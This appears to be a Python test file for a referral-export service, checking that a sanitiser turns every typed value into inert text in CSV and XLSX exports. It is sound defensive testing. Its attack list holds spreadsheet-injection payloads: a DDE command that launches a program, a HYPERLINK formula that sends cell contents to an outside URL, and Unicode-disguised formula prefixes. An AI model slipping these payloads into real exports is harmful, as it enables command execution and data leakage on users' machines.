"""A cell is text, whatever was typed into it."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from service.referrals.dossiers import sheets
from service.referrals.exports import Content, Order

ORDER = Order("csv", 7, (), "=cmd|' /C calc'!A0", "why", "en", draft=True)
SIGNS = "=+-@\t\r\n|%＝＋－＠−﹣﹢﹦﹫"
ATTACKS = [
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff@A1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "－1",
    "＠SUM(A1)",
    "\u202e=1+1",
    "\n-1",
    "\u3000＋1",
]


def content(*cells: str) -> Content:
    return Content({"heads": ["Name"] * max(1, len(cells)), "rows": [list(cells)], "title": "x"})


def cells_of(document: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula(attack: str) -> None:
    assert sheets.safe(attack).startswith("'")


@given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from(SIGNS + " '\"\u200b;,")), max_size=40))
@settings(max_examples=400)
def test_whatever_is_typed_stays_one_harmless_cell(text: str) -> None:
    cell = sheets.safe(text)
    assert not cell or cell[0] not in SIGNS
    assert cell.lstrip(' \u200b\u3000"')[:1] not in set(SIGNS)
    assert not set(cell) & set("\t\r\n\0")


@given(st.lists(st.text(max_size=20), min_size=1, max_size=4))
@settings(max_examples=60, deadline=None)
def test_both_forms_hold_the_same_cells_as_text(texts: list[str]) -> None:
    with _app().test_request_context():
        made, book = sheets.render_csv(ORDER, content(*texts)), sheets.render_xlsx(ORDER, content(*texts))
    assert cells_of(made)[2] == [sheets.safe(text) for text in texts]
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert sheet is not None
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" and cell.hyperlink is None for cell in found)


def _app():  # type: ignore[no-untyped-def]
    from flask import Flask
    from flask_babel import Babel

    app = Flask(__name__)
    Babel(app)
    return app


def test_names_in_every_script_come_through() -> None:
    names = ["مەمەت تۇرسۇن", "麦麦提·吐尔逊", "Мәмәт", "Memet, “the elder”", "plain - with a sign = inside"]
    with _app().test_request_context():
        assert cells_of(sheets.render_csv(ORDER, content(*names)))[2] == names
        book = sheets.render_xlsx(ORDER, content(*names))
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert sheet is not None
    assert [cell.value for cell in sheet[3]] == names
